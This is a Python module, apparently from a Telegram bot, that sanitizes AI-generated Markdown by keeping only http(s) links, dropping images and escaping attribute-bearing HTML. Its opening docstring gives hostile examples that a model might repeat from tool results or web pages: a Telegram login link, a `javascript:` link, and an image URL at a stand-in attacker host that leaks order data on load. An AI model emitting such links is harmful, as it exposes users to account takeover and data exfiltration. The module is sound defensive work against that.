"""The one output policy for links, for every way an answer reaches Telegram: plain messages
(render/markdown.py), rich messages (bot/features/rich), drafts, groups, guest queries and
business chats all pass through one of the two functions below.

An answer's Markdown is the model's, and the model repeats what tool results, documents and web
pages say: `[Verify](tg://login?token=…)` asks Telegram to log the reader in,
`[Olga](tg://user?id=42)` mentions a stranger, `[pay](javascript:…)` is a script, and
`![p](https://evil.example/p.png?leak=ORDER-A-1)` in a rich message is fetched by the reader's
app without a click, carrying whatever the model put in its query (issue 61). So:

- a link is kept only when its URL is http(s) (the bot's own citation links are: a source's
  `url` is a web address); any other scheme leaves the link's text as plain text, without the
  URL;
- an image from the answer is dropped: its alt text stays as plain text, its URL goes nowhere.
"""

from __future__ import annotations

import re

from markdown_it import MarkdownIt
from markdown_it.token import Token


class _EveryLink(MarkdownIt):
    """markdown-it leaves `javascript:`, `vbscript:`, `file:` and `data:` links as literal
    text, but the policy, not the parser, decides: another Markdown reader (Telegram's own,
    for rich messages) may take them for links. So every link is parsed as one, and judged by
    `allowed_link`."""

    def validateLink(self, url: str) -> bool:
        return True


def markdown_parser() -> MarkdownIt:
    """The parser of model Markdown (CommonMark, GFM tables and strikethrough) that sees every
    link, for the renderer and the policy alike."""
    return _EveryLink("commonmark", {"html": False}).enable(["table", "strikethrough"])


_PARSER = markdown_parser()
# The same parser reading raw HTML as HTML: another reader of the Markdown (Telegram's rich
# dialect) may take `<a href=…>` or `<img src=…>` for markup, so the policy judges that
# reading too.
_HTML_PARSER = _EveryLink("commonmark", {"html": True}).enable(["table", "strikethrough"])
_SCHEMES = ("http://", "https://")
_SCHEME = re.compile(r"[A-Za-z][A-Za-z0-9+.-]*:")
# Raw HTML that is kept: tags without attributes (`<br>`, `<b>`, `</sup>`), which can carry no
# URL. Anything else (an attribute, a comment, a declaration) is refused like a link.
_BARE_TAG = re.compile(r"</?[A-Za-z][A-Za-z0-9-]*\s*/?>")
_TAG_OR_TEXT = re.compile(r"<[^<>]*>|[^<]+")
_HTML_TAG = re.compile(r"(?<!\\)<[A-Za-z/!?][^<>]*>")
# An inline link or image: its label may hold escaped brackets and one level of nesting
# (`[![img](a)](b)`); the URL is bare or in <>, with an optional title.
_LABEL = r"(?:[^\[\]\\]|\\.|\[(?:[^\[\]\\]|\\.)*\])*"
_INLINE = re.compile(
    r"(?P<bang>!?)\[(?P<label>" + _LABEL + r")\]"
    r"\(\s*(?:<(?P<angled>[^<>\n]*)>|(?P<bare>(?:[^\s()\\]|\\.|\((?:[^\s()\\]|\\.)*\))*))"
    r"(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^()]*\)))?\s*\)"
)
# A reference definition, also inside block quotes and list items (their markers before it):
# `> - [label]: url "title"`; the label may hold escaped brackets (`[a\]b]`).
_DEFINITION = re.compile(
    r"^(?P<prefix>(?:[ \t]*(?:>|[-+*]|\d{1,9}[.)])(?=[ \t>]))*[ \t]*)"
    r"\[(?:[^\]\\]|\\.)+\]:[ \t]*<?(?P<url>[^\s>]*)>?.*$",
    re.MULTILINE,
)
_AUTOLINK = re.compile(r"<(?P<url>[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*)>")


def has_scheme(url: str) -> bool:
    """Whether `url` names a scheme (`tg:`, `mailto:`); a relative path names none."""
    return _SCHEME.match(url.strip()) is not None


def allowed_link(url: str) -> bool:
    """Whether a link to `url` may reach Telegram: http(s) only, whatever its letter case."""
    return url.strip().lower().startswith(_SCHEMES)


def safe_markdown(markdown: str) -> str | None:
    """The Markdown with every link the policy refuses made plain text and every image dropped
    (alt text kept), for paths that send Markdown itself (rich messages); None when a refused
    link survives the rewrite (the caller then sends the rendered text, which
    `render_markdown` cleans token by token).

    Always judged by the parser, never by a look at the text: reference definitions (in a
    quote, a list item, with escaped brackets in the label), autolinks, raw HTML and images
    are links like inline ones (issue 77). The rewrite is not trusted either: the result is
    parsed again and must hold no refused link, no image and no raw HTML with attributes."""
    if is_clean(markdown):
        return markdown
    rewritten = _DEFINITION.sub(
        lambda m: m.group(0) if allowed_link(m.group("url")) else m.group("prefix").rstrip(),
        markdown,
    )
    previous = None
    while previous != rewritten:  # a nested link's label is rewritten on the next pass
        previous = rewritten
        rewritten = _INLINE.sub(_inline, rewritten)
    rewritten = _AUTOLINK.sub(
        lambda m: m.group(0) if allowed_link(m.group("url")) else m.group("url"), rewritten
    )
    # Raw HTML beyond bare tags is shown as its text: its `<` escaped, so no reader takes
    # it for markup.
    rewritten = _HTML_TAG.sub(
        lambda m: m.group(0) if _BARE_TAG.fullmatch(m.group(0)) else "\\" + m.group(0),
        rewritten,
    )
    return rewritten if is_clean(rewritten) else None


def is_clean(markdown: str) -> bool:
    """Whether the Markdown, parsed as CommonMark both with and without raw HTML, holds no
    image, no link the policy refuses and no raw HTML that could carry a URL."""
    return _clean(_PARSER.parse(markdown)) and _clean(_HTML_PARSER.parse(markdown))


def _inline(match: re.Match[str]) -> str:
    url = match.group("angled") if match.group("angled") is not None else match.group("bare")
    if match.group("bang") or not allowed_link(url or ""):
        return match.group("label")
    return match.group(0)


def _clean(tokens: list[Token]) -> bool:
    """Whether the parsed Markdown holds no image, no link the policy refuses and no raw HTML
    beyond bare tags."""
    for token in tokens:
        if token.type == "html_block" and not _bare_html(token.content):
            return False
        for child in token.children or ():
            if child.type == "image":
                return False
            if child.type == "link_open" and not allowed_link(str(child.attrs.get("href", ""))):
                return False
            if child.type == "html_inline" and not _bare_html(child.content):
                return False
    return True


def _bare_html(html: str) -> bool:
    """Whether raw HTML is only tags without attributes, and text (a stray `<` is not)."""
    parts = _TAG_OR_TEXT.findall(html)
    if "".join(parts) != html:
        return False
    return all(not part.startswith("<") or _BARE_TAG.fullmatch(part) for part in parts)
